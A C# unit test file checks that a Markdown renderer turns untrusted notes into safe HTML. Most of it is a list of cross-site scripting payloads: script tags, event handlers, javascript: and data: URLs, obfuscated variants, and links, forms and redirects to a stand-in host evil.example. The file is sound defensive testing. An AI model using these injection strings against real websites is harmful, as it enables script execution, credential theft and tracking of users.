using System.Diagnostics;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using Evenkeel.Web;

namespace Evenkeel.Tests.Web;

/// <summary>Notes may come from a stranger's file: whatever stands in them, a page shows text and harmless links.</summary>
public sealed partial class MarkdownTests
{
    /// <summary>All that notes may become.</summary>
    private static readonly string[] Elements = ["p", "h3", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "a", "br", "hr"];

    public static TheoryData<string> Attacks { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "a <img src=x onerror=alert(1)> b", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>",
        "<style>*{display:none}</style>", "<form action=https://evil.example><input name=p></form>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<div\nonclick=alert(1)>x</div>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))", "[x](java&Tab;script:alert(1))", "[x](java\nscript:alert(1))", "[x](&#1;javascript:alert(1))",
        "[x](\tjavascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](javascript&colon;alert(1))", "[x](%6aavascript:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/1)", "[x](ws://evil.example)", "[x](//evil.example)", "[x](/settings)",
        "[x](#main)", "[x](?did=1)", "[x](http:evil.example)", "[x](https:///)", "[x](ftp://evil.example/x)", "[x](tel:123)", "<javascript:alert(1)>", "<data:text/html,x>", "<x-evil://a>",
        "[x]: javascript:alert(1)\n\n[x]", "[x][1]\n\n[1]: <data:text/html,x> \"onclick=alert(1)\"", "![x](https://evil.example/pixel.png)", "![x](javascript:alert(1))", "![](https://evil.example/pixel.png)",
        "[![x](https://evil.example/a.png)](javascript:alert(1))", "![x][1]\n\n[1]: https://evil.example/pixel.png", "[x](https://a.example \"t\" onclick=alert(1))", "[x](https://a.example/\"onclick=\"alert(1))",
        "[x](https://a.example/'onclick='alert(1))", "[x\"onclick=\"alert(1)](https://a.example)", "[<img src=x onerror=alert(1)>](https://a.example)", "[x](https://a.example/<script>)",
        "```\" onclick=\"alert(1)\n<script>alert(1)</script>\n```", "```html\n</code></pre><script>alert(1)</script>\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`",
        "# <script>alert(1)</script> {#main onclick=alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "\u003cscript>\u2028alert(1)\u2029</script>", "\0<scr\0ipt>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<a\u00a0href=javascript:alert(1)>x</a>", "www.evil.example\" onclick=alert(1)",
        "https://a.example/\"onmouseover=alert(1)", "http://a.example/?q=<script>alert(1)</script>", "mailto:a@b.example\" onclick=alert(1)", "| <script> | b |\n|---|---|\n| 1 | 2 |",
        "*a _b* c_ **d [e](javascript:alert(1)** f)", "[a [b](javascript:1) c](javascript:2)", "[x](<javascript:alert(1)", "<<script>script>alert(1)</script>", "> <script>\n* <img src=x onerror=alert(1)>",
        "[ ](javascript:alert(1))", "[x](javascript://https://a.example/%0aalert(1))", "[x](https://a.example@javascript:alert(1))", "<https://a.example/\"><script>alert(1)</script>>",
        "\\<script>alert(1)\\</script>", "[x]\\(javascript:alert(1))", "a<br/onclick=alert(1)>b", "<details open ontoggle=alert(1)>", "<template><script>alert(1)</script></template>", "<xss id=x tabindex=1 onfocus=alert(1)>",
    ];

    [Theory, MemberData(nameof(Attacks))]
    public void No_attack_gets_beyond_text_and_harmless_links(string attack)
    {
        foreach (var around in new[] { "{0}", "before\n\n{0}\n\nafter", "* {0}", "> {0}", "**{0}**" })
            Harmless(around.Replace("{0}", attack, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("> ")]
    [InlineData("* ")]
    [InlineData("[")]
    [InlineData("![")]
    [InlineData("*a ")]
    [InlineData("_*")]
    [InlineData("<")]
    [InlineData("`")]
    [InlineData("[a](")]
    [InlineData("1. ")]
    [InlineData("&#")]
    [InlineData("# ")]
    [InlineData("]")]
    [InlineData("http://")]
    [InlineData("a@a")]
    [InlineData("\n\t")]
    public void Notes_nested_as_deep_as_they_can_be_end_in_time(string part)
    {
        var watch = Stopwatch.StartNew();
        Harmless(string.Concat(Enumerable.Repeat(part, App.Store.CleanText.Note / part.Length)));
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), watch.Elapsed.ToString());
    }

    [Fact]
    public void What_people_write_looks_as_they_mean_it()
    {
        Assert.Equal("<h3>Who</h3>\n<p>Ana, <strong>not</strong> <em>Tom</em></p>\n", Html("# Who\nAna, **not** *Tom*"));
        Assert.Equal("<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n", Html("* one\n* two"));
        Assert.Equal("<p><a href=\"https://a.example/x?a=1&amp;b=%22\" rel=\"noopener noreferrer nofollow\">the offer</a></p>\n", Html("[the offer](https://a.example/x?a=1&b=\")"));
        Assert.Equal("<p><a href=\"mailto:ana@a.example\" rel=\"noopener noreferrer nofollow\">ana@a.example</a></p>\n", Html("<ana@a.example>"));
        Assert.Equal("<p>see <a href=\"https://a.example/b\" rel=\"noopener noreferrer nofollow\">https://a.example/b</a></p>\n", Html("see https://a.example/b"));
        Assert.Equal("<p><a href=\"https://a.example/p.png\" rel=\"noopener noreferrer nofollow\">the poster</a></p>\n", Html("![the poster](https://a.example/p.png)"));
        Assert.Equal("<p>x</p>\n", Html("[x](javascript:alert(1))"));
        Assert.Equal("<p>1 &lt; 2 &amp; a<br />\nb</p>\n", Html("1 < 2 & a  \nb"));
        Assert.Equal("", Html("[only]: https://a.example"));
    }

    private static string Html(string notes) => Markdown.Html(notes).Value;

    private static void Harmless(string notes)
    {
        var html = Html(notes);
        var root = XElement.Parse($"<root>{Unprintable().Replace(html, "")}</root>".Replace("&nbsp;", " ", StringComparison.Ordinal));
        foreach (var element in root.Descendants())
        {
            Assert.Contains(element.Name.LocalName, Elements);
            Assert.All(element.Attributes(), attribute => Assert.Contains((element.Name.LocalName, attribute.Name.LocalName), new[] { ("a", "href"), ("a", "rel"), ("pre", "tabindex"), ("ol", "start") }));
            if (element.Attribute("href")?.Value is { } href)
                Assert.Matches("^(https?://[^/]|mailto:)", href);
        }
    }

    [GeneratedRegex("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f]")]
    private static partial Regex Unprintable();
}
